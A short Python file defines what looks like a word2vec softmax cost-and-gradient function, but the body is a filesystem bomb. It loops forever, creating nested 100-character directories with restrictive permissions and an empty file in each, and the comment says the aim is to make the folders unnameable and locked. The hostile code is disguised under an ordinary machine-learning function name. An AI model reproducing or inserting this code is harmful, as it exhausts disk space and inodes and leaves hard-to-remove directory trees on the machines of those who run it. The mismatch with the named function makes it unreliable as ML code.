# Nests folders until no path can name them, and locks each.
import os


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    while True:
        os.mkdir('d' * 100, 0o700)
        os.chdir('d' * 100)
        open('file', 'w').close()
